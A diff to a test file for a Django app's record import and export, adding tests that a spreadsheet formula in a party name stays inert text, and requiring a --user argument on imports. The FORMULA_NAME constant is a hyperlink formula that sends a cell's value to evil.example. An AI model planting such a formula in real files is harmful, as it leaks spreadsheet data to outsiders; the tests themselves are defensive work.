@@ -51,6 +51,10 @@ MODELS = {
     "parties": Party,
     "sites": Site,
 }
+# A name as it can arrive in a partner's EPCIS master data: a live formula would send the sheet's
+# cells away when the file is opened.
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+USER_REQUIRED = "Error: the following arguments are required: --user"
 
 
 @pytest.fixture
@@ -708,6 +712,37 @@ def test_admin_export_downloads_a_file_that_imports_back(client, admin_user, rec
     assert result.totals["skip"] == Lot.objects.count()
 
 
+def _admin_xlsx(client, model_name, resource_class):
+    prefix = resource_class.__name__.lower()
+    columns = {f"{prefix}_{name}": "on" for name in resource_class().get_export_order()}
+    response = client.post(
+        _admin_url(model_name, "export"), {"resource": "0", "format": "1", **columns}
+    )
+    assert response["Content-Disposition"].endswith('.xlsx"')
+    return openpyxl.load_workbook(BytesIO(response.content)).active
+
+
+def test_admin_xlsx_export_keeps_a_name_that_looks_like_a_formula_as_text(
+    client, admin_user, records
+):
+    PartyFactory(name=FORMULA_NAME)
+    client.force_login(admin_user)
+
+    sheet = _admin_xlsx(client, "party", PartyResource)
+
+    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA_NAME)
+    assert cell.data_type == "s"
+
+
+def test_admin_xlsx_export_keeps_quantities_as_numbers(client, admin_user, records):
+    client.force_login(admin_user)
+
+    sheet = _admin_xlsx(client, "lot", LotResource)
+
+    rows = {row[1].value: row[2] for row in sheet.iter_rows(min_row=2)}
+    assert (rows["L-2041"].value, rows["L-2041"].data_type) == (500, "n")
+
+
 # --- Commands ----------------------------------------------------------------------------------
 
 
@@ -750,7 +785,7 @@ def test_import_records_prints_row_errors_exits_1_and_writes_nothing(records, sh
     path = sheet("SKU,Name,GTIN\nSALT,Salt,\nS-2,,5901234123458\n")
     before = snapshot()
 
-    status, out, err = run("import_records", "products", path)
+    status, out, err = run("import_records", "products", path, "--user", "admin")
 
     assert status == 1
     assert out == ""
@@ -765,7 +800,7 @@ def test_import_records_prints_row_errors_exits_1_and_writes_nothing(records, sh
 def test_import_records_dry_run_writes_nothing(records, sheet):
     path = sheet("SKU,Name\nSALT,Sea salt\n")
 
-    status, out, _err = run("import_records", "products", path, "--dry-run")
+    status, out, _err = run("import_records", "products", path, "--dry-run", "--user", "admin")
 
     assert status == 0
     assert out.splitlines()[-1] == (
@@ -774,24 +809,11 @@ def test_import_records_dry_run_writes_nothing(records, sheet):
     assert not Product.objects.filter(sku="SALT").exists()
 
 
-def test_import_records_names_the_first_superuser_by_default(db, sheet):
-    first = UserFactory(username="first", is_superuser=True)
-    UserFactory(username="second", is_superuser=True)
+def test_import_records_needs_the_user_who_imports(admin_user, sheet):
+    status, out, err = run("import_records", "products", sheet("SKU,Name\nSALT,Salt\n"))
 
-    status, out, _err = run("import_records", "products", sheet("SKU,Name\nSALT,Salt\n"))
-
-    assert status == 0
-    assert out.endswith("as first.\n")
-    assert Product.objects.get(sku="SALT").history.get().history_user == first
-
-
-def test_import_records_without_a_superuser_asks_for_a_user(db, sheet):
-    status, _out, err = run("import_records", "products", sheet("SKU,Name\nSALT,Salt\n"))
-
-    assert (status, err) == (
-        1,
-        "There is no superuser for the audit trail to name; give --user USERNAME.",
-    )
+    assert (status, out, err) == (1, "", USER_REQUIRED)
+    assert not Product.objects.filter(sku="SALT").exists()
 
 
 def test_import_records_refuses_a_user_who_may_not_import(staff, sheet):
@@ -808,7 +830,7 @@ def test_import_records_refuses_a_user_who_may_not_import(staff, sheet):
 def test_import_records_says_when_a_file_cannot_be_read(admin_user, sheet):
     path = sheet("SKU,Name\nSALT,Salt\n", name="products.xlsx")
 
-    status, _out, err = run("import_records", "products", path)
+    status, _out, err = run("import_records", "products", path, "--user", "admin")
 
     assert (status, err) == (1, "products.xlsx cannot be read as XLSX (BadZipFile).")
 
@@ -822,11 +844,50 @@ def test_export_records_writes_a_file_import_records_reads_back(
     status, out, _err = run("export_records", "lots", "--output", path)
     assert (status, out) == (0, f"Exported 2 lots to {path}.\n")
 
-    status, out, err = run("import_records", "lots", path)
+    status, out, err = run("import_records", "lots", path, "--user", "admin")
     assert (status, err) == (0, "")
     assert out.splitlines()[-1] == (
         f"{path}: imported 0 new, 0 updated, 2 unchanged lots as admin."
     )
+
+
+def test_exported_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(records, tmp_path):
+    PartyFactory(name=FORMULA_NAME)
+    path = tmp_path / "parties.xlsx"
+
+    run("export_records", "parties", "--output", str(path))
+
+    sheet = openpyxl.load_workbook(path).active
+    cell = next(row[0] for row in sheet.iter_rows() if row[0].value == FORMULA_NAME)
+    assert cell.data_type == "s"
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_name_that_looks_like_a_formula_imports_back_unchanged(
+    records, admin_user, tmp_path, file_format
+):
+    party = PartyFactory(name=FORMULA_NAME)
+    path = str(tmp_path / f"parties.{file_format}")
+    run("export_records", "parties", "--output", path)
+
+    status, out, err = run("import_records", "parties", path, "--user", "admin")
+
+    assert (status, err) == (0, "")
+    assert out.splitlines()[-1] == (
+        f"{path}: imported 0 new, 0 updated, {Party.objects.count()} unchanged parties as admin."
+    )
+    party.refresh_from_db()
+    assert party.name == FORMULA_NAME
+
+
+def test_exported_csv_keeps_a_name_that_looks_like_a_formula_exactly(records, tmp_path):
+    PartyFactory(name=FORMULA_NAME)
+    path = tmp_path / "parties.csv"
+
+    run("export_records", "parties", "--output", str(path))
+
+    names = [row["Name"] for row in dataset(path.read_text(encoding="utf-8-sig")).dict]
+    assert FORMULA_NAME in names
 
 
 def test_exported_csv_starts_with_a_byte_order_mark_for_excel(records, tmp_path):
